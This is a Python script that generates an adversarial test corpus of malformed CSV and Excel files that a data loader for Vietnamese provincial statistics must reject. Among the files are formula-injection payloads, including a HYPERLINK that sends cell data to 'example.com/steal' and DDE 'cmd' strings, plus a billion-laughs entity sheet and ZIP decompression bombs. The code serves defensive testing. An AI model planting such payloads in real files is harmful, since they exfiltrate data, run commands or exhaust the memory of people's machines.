"""Write the adversarial input corpus: files that `kcanalysis.ingest.load` must refuse.

Run from the repository root: ``python tests/data/bad/make_bad.py [OUT_DIR]``. The small
files are committed; ``tests/reliability/test_rel_corpus.py`` checks that running this
script again gives the same content. Each file is designed so that nothing in it can be
loaded: `load` raises a one-line `DataError` naming the file (and the sheet and cell where
one is to blame), and `kcanalysis validate` exits with code 2. See README.md for the list.

Large or expensive files are never committed: `million_empty_rows`, `decompression_bomb`,
`lying_bomb` and `oversized_csv` write them at test time into a temporary folder.

The pair in ``conflict/`` loads one by one; together (`load_many`) they disagree about the
same province-year, which must be a reported conflict.
"""

from __future__ import annotations

import codecs
import datetime as dt
import io
import re
import struct
import sys
import unicodedata
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIXED_TIME = (2024, 1, 1, 0, 0, 0)

HEADER = ["area_code", "area_name", "year", "period", "level", "activity", "indicator"]
HEADER += ["unit", "planned", "actual"]
#: A good row of Lâm Đồng 2017, to build bad ones from.
GOOD = ["68", "Lâm Đồng", 2017, "FY", "ALL", "ALL", "projects", "count", 65, 65]
INJECTIONS = [
    '=HYPERLINK("http://example.com/steal?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
    "\t=1+2",
    "\r=1+2",
]


def row(**changes) -> list:
    """Return GOOD with some cells changed (by column name)."""
    out = list(GOOD)
    for name, value in changes.items():
        out[HEADER.index(name)] = value
    return out


# ------------------------------------------------------------------------------ writers


def csv_bytes(rows: list[list], delimiter: str = ",") -> bytes:
    """Return rows as CSV text (UTF-8), quoting as Excel does."""
    import csv

    buf = io.StringIO(newline="")
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    for r in rows:
        writer.writerow(["" if v is None else v for v in r])
    return buf.getvalue().encode("utf-8")


def xlsx_bytes(rows: list[list], title: str = "Sheet1", text_cells: bool = True) -> bytes:
    """Return a workbook of one sheet; strings starting with "=" stay text (`text_cells`)."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for r, values in enumerate(rows, start=1):
        for c, v in enumerate(values, start=1):
            if v is None:
                continue
            cell = ws.cell(r, c, v)
            if text_cells and isinstance(v, str) and v.startswith("="):
                cell.data_type = "s"  # text that looks like a formula, never a formula
    buf = io.BytesIO()
    wb.save(buf)
    return deterministic(buf.getvalue())


def deterministic(data: bytes) -> bytes:
    """Rewrite a workbook's ZIP with fixed timestamps, so the bytes are reproducible."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", body)
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def patch_sheet(data: bytes, change, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """Return a workbook whose first sheet's XML (or another `part`) is `change(xml)`."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == part:
                body = change(body)
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


# ------------------------------------------------------------------------------ OLE2


def encrypted_package() -> bytes:
    """Return an OLE2 compound file (CFB v3) holding the two streams of an encrypted
    .xlsx, "EncryptionInfo" (an Agile encryption header) and "EncryptedPackage".

    The container is well formed (header, FAT, directory, streams); the payload is not
    real ciphertext, which is enough: the reader must recognise a password-protected
    workbook by its container, before any attempt at decrypting it.
    """
    sector = 512
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
        b'xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData '
        b'saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        b'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512"/></encryption>'
    )
    info = info.ljust(4096, b"\x00")  # at the mini-stream cutoff: stored in sectors
    package = struct.pack("<Q", 6000) + bytes((i * 37 + 11) % 256 for i in range(8184))
    streams = [("EncryptionInfo", info), ("EncryptedPackage", package)]
    end, free, fat_sect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    fat = [fat_sect, end]  # sector 0: the FAT, sector 1: the directory
    starts = []
    for _, body in streams:
        n = len(body) // sector
        starts.append(len(fat))
        fat += [len(fat) + i + 1 for i in range(n - 1)] + [end]
    fat += [free] * (128 - len(fat))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108

    def entry(name, kind, left, right, child, start, size) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00" if name else b""
        return (
            raw.ljust(64, b"\x00")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", left, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, nostream, nostream, 1, end, 0)
    directory += entry(streams[0][0], 2, nostream, 2, nostream, starts[0], len(info))
    directory += entry(streams[1][0], 2, nostream, nostream, nostream, starts[1], len(package))
    directory += entry("", 0, nostream, nostream, nostream, 0, 0)
    body = struct.pack("<128I", *fat) + directory + info + package
    return header + body


# ------------------------------------------------------------------------------ corpus


def charts_only() -> bytes:
    """A workbook whose only sheet is a chart sheet (no cells at all)."""
    import openpyxl
    from openpyxl.chart import BarChart, Reference

    wb = openpyxl.Workbook()
    data = wb.active
    data.title = "Số liệu"
    for i in range(3):
        data.append([i, i * 2])
    chart = BarChart()
    chart.add_data(Reference(data, min_col=2, min_row=1, max_row=3))
    wb.create_chartsheet("Biểu đồ").add_chart(chart)
    wb.remove(data)
    buf = io.BytesIO()
    wb.save(buf)
    return deterministic(buf.getvalue())


def chart_on_empty_sheet() -> bytes:
    """A worksheet that shows a chart and holds no cell."""
    import openpyxl
    from openpyxl.chart import BarChart, Reference

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Biểu đồ"
    ws.append([1, 2])
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=1, min_row=1, max_col=2))
    ws.add_chart(chart, "C3")
    ws.delete_rows(1)
    buf = io.BytesIO()
    wb.save(buf)
    return deterministic(buf.getvalue())


def excel_errors() -> bytes:
    """Every figure, code and indicator an Excel error value (cells of type "e")."""
    rows = [HEADER]
    for err in ("#REF!", "#DIV/0!", "#VALUE!", "#N/A", "#NAME?", "#NUM!", "#NULL!"):
        rows.append(row(planned=err, actual=err))
    rows.append(row(area_code="#REF!", area_name="#REF!", planned=1, actual=1))
    rows.append(row(indicator="#VALUE!", planned=1, actual=1))
    return xlsx_bytes(rows)


def dates_for_numbers_xlsx() -> bytes:
    """Dates typed where the figures belong (Excel stores them as dates)."""
    rows = [HEADER]
    for day in (dt.datetime(2017, 5, 12), dt.datetime(2017, 12, 31, 8, 30)):
        rows.append(row(planned=day, actual=day))
    rows.append(row(planned=dt.date(2017, 1, 1), actual=None))
    return xlsx_bytes(rows)


def dates_for_numbers_csv() -> bytes:
    rows = [HEADER]
    for text in ("12/05/2017", "2017-05-12", "12-05-2017", "12.05.2017", "Quý IV/2017"):
        rows.append(row(planned=text, actual=text))
    return csv_bytes(rows)


def huge_numbers_csv() -> bytes:
    """Numbers no table can hold, written as text: none may load as inf or 1e300."""
    rows = [HEADER]
    for text in ("1e300", "1E+300", "NaN", "nan", "inf", "-inf", "Infinity", "1e999"):
        rows.append(row(indicator="budget_kc", unit="million VND", planned=text, actual=text))
    big = "9" * 400
    rows.append(row(indicator="budget_kc", unit="million VND", planned=big, actual="1.0e308"))
    grouped = "1" + ".000" * 100
    rows.append(row(planned=grouped, actual="1" + ",000" * 100))
    return csv_bytes(rows)


def huge_numbers_xlsx() -> bytes:
    """The same as numbers: 1e300 and 1e308 floats, and inf written into the XML."""
    rows = [HEADER]
    rows.append(row(indicator="budget_kc", unit="million VND", planned=1e300, actual=1e308))
    rows.append(row(planned=-1e300, actual=1e16))
    rows.append(row(planned=123, actual=456))  # patched to 1e999 (infinity) below
    data = xlsx_bytes(rows)

    def change(xml: bytes) -> bytes:
        return xml.replace(b"<v>123</v>", b"<v>1e999</v>").replace(b"<v>456</v>", b"<v>-1E999</v>")

    return patch_sheet(data, change)


def to_cp1258(text: str) -> bytes:
    """Encode as Windows does: precomposed letters where the code page has them, otherwise
    the base letter followed by a combining tone mark."""
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", ch)
        tones = [c for c in parts if c in "\u0300\u0301\u0303\u0309\u0323"]
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
        out += (base + "".join(tones)).encode("cp1258")
    return bytes(out)


def mixed_encodings() -> bytes:
    """Rows pasted from a UTF-8 file and from a Windows-1258 file into one CSV."""
    head = csv_bytes([HEADER, row(area_name="Lâm Đồng", planned="#REF!", actual="#REF!")])
    tail = "68,Lâm Đồng,2017,FY,KCĐP,Tất cả,budget_kc,triệu đồng,#REF!,#REF!\r\n"
    return head + to_cp1258(tail)


def bom_middle() -> bytes:
    """Two CSV exports (each with its BOM) pasted into one file."""
    one = codecs.BOM_UTF8 + csv_bytes([HEADER, row(planned="#REF!", actual="#REF!")])
    two = codecs.BOM_UTF8 + csv_bytes([HEADER, row(year=2018, planned="#N/A", actual="#N/A")])
    return one + two


def bom_in_cell() -> bytes:
    """An invisible U+FEFF inside a province name and a figure."""
    return csv_bytes([HEADER, row(area_name="Lâm\ufeffĐồng", planned="6\ufeff5")])


def injection_rows() -> list[list]:
    rows = [HEADER]
    for text in INJECTIONS:
        rows.append(
            [text, text, 2017, "FY", "ALL", "ALL", text, "count", text, text],
        )
    return rows


def long_and_control_csv() -> bytes:
    """10.000-character cells and control characters, nowhere a usable figure."""
    long_text = ("Đào tạo nghề " * 800)[:10_000]
    controls = "".join(chr(c) for c in (1, 2, 7, 8, 11, 12, 27, 31, 127)) + "\u2028\u0085"
    rows = [HEADER]
    rows.append(row(area_name=long_text, planned=long_text, actual="1" * 10_000))
    rows.append(row(planned="6" + controls + "5", actual=controls))
    rows.append(row(indicator="projects" + controls, planned=controls + "1", actual=1))
    rows.append(row(area_code=controls, area_name=controls, planned=1, actual=1))
    rows.append(row(planned="hơn\x0b3 tỷ", actual="7.700\x00"))
    return csv_bytes(rows).replace(b"\x00", b"")  # a NUL byte makes it binary: left out


def long_cells_xlsx() -> bytes:
    """10.000-character cells, and control characters as Excel escapes them (_x0007_)."""
    long_text = ("Khuyến công " * 900)[:10_000]
    rows = [HEADER, row(area_name=long_text, planned=long_text, actual="9" * 10_000)]
    rows.append(row(indicator=long_text, planned=1, actual=1))
    rows.append(row(planned=12345, actual=54321))  # replaced by text with control characters
    data = xlsx_bytes(rows)

    def change(xml: bytes) -> bytes:
        for number, text in ((b"12345", b"6_x0007_5"), (b"54321", b"_x001B_[31m7_x0000_")):
            xml = re.sub(
                rb'<c r="([A-Z]+\d+)"[^>]*><v>' + number + rb"</v></c>",
                lambda m, t=text: (
                    b'<c r="' + m.group(1) + b'" t="inlineStr"><is><t>' + t + b"</t></is></c>"
                ),
                xml,
            )
        return xml

    return patch_sheet(data, change)


def far_cell() -> bytes:
    """Two values, in A1 and XFD1048576: 17 billion cells if read as a grid."""
    rows = [HEADER, row(planned="#REF!", actual="#REF!")]
    data = xlsx_bytes(rows)

    def change(xml: bytes) -> bytes:
        far = b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'
        xml = xml.replace(b"</sheetData>", far)
        return re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', xml)

    return patch_sheet(data, change)


def entity_expansion() -> bytes:
    """A "billion laughs" sheet: XML entities that would expand to some 40 GB of text."""
    data = xlsx_bytes([HEADER, row(planned="#REF!", actual="#REF!")])
    entities = b'<!ENTITY lol0 "lololololololololololololololololololol">'
    for i in range(1, 10):
        refs = b"".join(b"&lol%d;" % (i - 1) for _ in range(10))
        entities += b'<!ENTITY lol%d "%s">' % (i, refs)

    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"<worksheet ", b"<!DOCTYPE worksheet [" + entities + b"]><worksheet ")
        return xml.replace(b"<t>area_code</t>", b"<t>&lol9;</t>", 1)

    return patch_sheet(data, change)


def wide_row_csv() -> bytes:
    """600 short rows, then one of 10.000 fields: 6 million cells if read as a grid."""
    rows = [HEADER] + [row(planned="#REF!", actual="#REF!")] * 600
    return csv_bytes(rows) + b"," * 10_000 + b"\r\n"


def province_new_for_2015() -> bytes:
    """Post-2025 units used for 2015: code 52 named Gia Lai (in 2015, 52 is Bình Định),
    and "Huế" (a city inside Thừa Thiên Huế until 2025)."""
    rows = [HEADER]
    rows.append(row(area_code="52", area_name="Gia Lai", year=2015))
    rows.append(row(area_code=None, area_name="Huế", year=2015))
    rows.append(row(area_code=None, area_name="Thành phố Huế", year=2016, indicator="models"))
    return csv_bytes(rows)


def province_old_for_2026() -> bytes:
    """Provinces merged away in 2025 used for 2026: by name and by code."""
    rows = [HEADER]
    rows.append(row(area_code=None, area_name="Phú Yên", year=2026))
    rows.append(row(area_code=None, area_name="Bình Định", year=2026, indicator="models"))
    rows.append(row(area_code="54", area_name=None, year=2026, indicator="trainees"))
    rows.append(row(area_code="52", area_name="Bình Định", year=2026, indicator="jobs_created"))
    rows.append(row(area_code=None, area_name="Hà Giang", year=2026, level="KCDP"))
    return csv_bytes(rows)


def title_old_for_2026() -> bytes:
    """A summary table titled for a province that no longer exists in its year."""
    rows = [
        ["BÁO CÁO KẾT QUẢ KHUYẾN CÔNG NĂM 2026 - TỈNH PHÚ YÊN"],
        ["ĐVT: triệu đồng"],
        ["STT", "Nội dung", "Kế hoạch", None, "Thực hiện", None],
        [None, None, "Số đề án", "Kinh phí", "Số đề án", "Kinh phí"],
        [1, "Đào tạo nghề", 2, 100, 2, 90],
    ]
    return xlsx_bytes(rows, title="Báo cáo")


def conflict_pair() -> tuple[bytes, bytes]:
    """Two good files that give different figures for Lâm Đồng 2017."""
    a = [HEADER, row(indicator="budget_kc", unit="million VND", planned=8850, actual=8300)]
    b = [HEADER, row(indicator="budget_kc", unit="million VND", planned=8850, actual=8200)]
    return csv_bytes(a), csv_bytes(b)


def corpus() -> dict[str, bytes]:
    """Return the committed corpus: file name -> bytes."""
    truncated = xlsx_bytes([HEADER, GOOD, GOOD])
    files = {
        "empty.csv": b"",
        "blank_lines.csv": b"\r\n  \r\n\t\r\n\r\n",
        "zero_bytes.xlsx": b"",
        "pdf_named.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        "csv_named.xlsx": csv_bytes([HEADER, GOOD]),
        "truncated.xlsx": truncated[: len(truncated) * 6 // 10],
        "password.xlsx": encrypted_package(),
        "charts_only.xlsx": charts_only(),
        "chart_on_empty_sheet.xlsx": chart_on_empty_sheet(),
        "excel_errors.xlsx": excel_errors(),
        "excel_errors.csv": csv_bytes(
            [HEADER] + [row(planned=e, actual=e) for e in ("#REF!", "#DIV/0!", "#VALUE!")]
        ),
        "dates_for_numbers.xlsx": dates_for_numbers_xlsx(),
        "dates_for_numbers.csv": dates_for_numbers_csv(),
        "huge_numbers.csv": huge_numbers_csv(),
        "huge_numbers.xlsx": huge_numbers_xlsx(),
        "mixed_encodings.csv": mixed_encodings(),
        "bom_middle.csv": bom_middle(),
        "bom_in_cell.csv": bom_in_cell(),
        "injection.csv": csv_bytes(injection_rows()),
        "injection.xlsx": xlsx_bytes(injection_rows()),
        "long_and_control.csv": long_and_control_csv(),
        "long_cells.xlsx": long_cells_xlsx(),
        "duplicate_headers.csv": csv_bytes(
            [[*HEADER[:-1], "actual", "Thực hiện"], [*GOOD[:-1], "#REF!", "#REF!"]]
        ),
        "duplicate_headers_projects.csv": csv_bytes(
            [["STT", "Tên đề án", "Tên đề án", "KP KCĐP"], [1, "Đào tạo nghề may", "Dệt", "#REF!"]]
        ),
        "headers_only.csv": csv_bytes([HEADER]),
        "headers_only.xlsx": xlsx_bytes([["SỐ LIỆU KHUYẾN CÔNG NĂM 2017"], HEADER]),
        "far_cell.xlsx": far_cell(),
        "wide_row.csv": wide_row_csv(),
        "entity_expansion.xlsx": entity_expansion(),
        "province_new_for_2015.csv": province_new_for_2015(),
        "province_old_for_2026.csv": province_old_for_2026(),
        "title_old_for_2026.xlsx": title_old_for_2026(),
    }
    a, b = conflict_pair()
    files["conflict/lam_dong_2017_a.csv"] = a
    files["conflict/lam_dong_2017_b.csv"] = b
    return files


# ------------------------------------------------------------------------------ at test time


def million_empty_rows(path: Path, n: int = 1_000_000) -> Path:
    """Write a workbook with a header, two rows of error values and then `n` empty rows
    formatted with a style (as selecting whole rows and colouring them leaves them):
    about 11 MiB packed, 110 MiB of sheet XML."""
    import openpyxl
    from openpyxl.styles import Font

    wb = openpyxl.Workbook()
    ws = wb.active
    for values in (HEADER, row(planned="#REF!", actual="#DIV/0!")):
        ws.append(values)
    ws["A1"].font = Font(bold=True)  # a second cell format (s="1") for the empty rows
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(buf)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, body)
                continue
            head, tail = body.split(b"</sheetData>")
            dimension = b'<dimension ref="A1:J%d"/>' % (n + 2)  # as Excel writes it
            head = re.sub(rb'<dimension ref="[^"]*"\s*/>', dimension, head)
            with dst.open(info.filename, "w", force_zip64=True) as fh:
                fh.write(head)
                block = []
                for r in range(3, n + 3):
                    block.append(
                        b'<row r="%d" s="1" customFormat="1"><c r="A%d" s="1"/>'
                        b'<c r="B%d" s="1"/><c r="J%d" s="1"/></row>' % (r, r, r, r)
                    )
                    if len(block) == 10_000:
                        fh.write(b"".join(block))
                        block = []
                fh.write(b"".join(block) + b"</sheetData>" + tail)
    return path


def _zip_store(parts: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """Return a ZIP of (name, deflated data, crc, compressed size, declared size) parts."""
    out = io.BytesIO()
    central = []
    for name, data, crc, csize, usize in parts:
        offset = out.tell()
        raw = name.encode()
        sizes = (8, 0, 0x21, crc, csize, usize, len(raw))  # deflate, time, date, crc, ...
        out.write(struct.pack("<IHH" + "HHHIIIH" + "H", 0x04034B50, 20, 0, *sizes, 0) + raw)
        out.write(data)
        tail = (0, 0, 0, 0, 0, offset)  # extra, comment, disk, attributes, offset
        central.append(struct.pack("<IHHH" + "HHHIIIH" + "HHHHII", 0x02014B50, 20, 20, 0,
                                   *sizes, *tail) + raw)  # fmt: skip
    start = out.tell()
    for c in central:
        out.write(c)
    size = out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), size, start, 0))
    return out.getvalue()


def _bomb_parts(shared_strings: tuple[bytes, int, int, int]) -> list:
    """The parts of a minimal workbook, with the shared strings given (deflated)."""
    small = {
        "[Content_Types].xml": (
            b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
            b'openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            b'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
            b'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
            b'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
        ),
        "_rels/.rels": (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            b'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" '
            b'r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="'
            b'worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="'
            b'sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>'
            b"</row></sheetData></worksheet>"
        ),
    }
    parts = []
    for name, body in small.items():
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = c.compress(body) + c.flush()
        parts.append((name, data, zlib.crc32(body), len(data), len(body)))
    parts.append(("xl/sharedStrings.xml", *shared_strings))
    return parts


def decompression_bomb(path: Path, gib: int = 2) -> Path:
    """Write a ~2 MiB workbook whose one shared string is `gib` GiB of "A": a memory bomb
    for any reader that inflates it. The deflate stream repeats one compressed block."""
    head = (
        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main" count="1" uniqueCount="1"><si><t>'
    )
    tail = b"</t></si></sst>"
    block = b"A" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    packed = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    assert packed == again  # after a full flush, the same input gives the same bytes
    last = c.compress(tail) + c.flush()
    n = gib * 1024
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    data = first + packed * n + last
    size = len(head) + n * len(block) + len(tail)
    declared = min(size, 0xFFFFFFFF - 1)  # a 32-bit ZIP: up to 4 GiB
    path.write_bytes(_zip_store(_bomb_parts((data, crc, len(data), declared))))
    return path


def lying_bomb(path: Path, mib: int = 512) -> Path:
    """Write a workbook whose shared strings declare 1 KiB but inflate to `mib` MiB: the
    declared sizes pass the limits, and the reader must stop at the declared size."""
    block = b"A" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = b'<?xml version="1.0"?><sst><si><t>'
    data = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    packed = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    data += packed * mib + c.compress(b"</t></si></sst>") + c.flush()
    path.write_bytes(_zip_store(_bomb_parts((data, 0, len(data), 1024))))
    return path


def oversized_csv(path: Path, mib: int = 101) -> Path:
    """Write a sparse CSV file beyond the 100 MiB limit (it takes no disk space)."""
    with path.open("wb") as fh:
        fh.write(csv_bytes([HEADER]))
        fh.truncate(mib << 20)
    return path


def main(out: Path = HERE) -> list[Path]:
    written = []
    for name, data in corpus().items():
        path = out / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        written.append(path)
    return written


if __name__ == "__main__":
    for p in main(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE):
        print(p.relative_to(p.parent.parent) if p.parent.name == "conflict" else p.name)
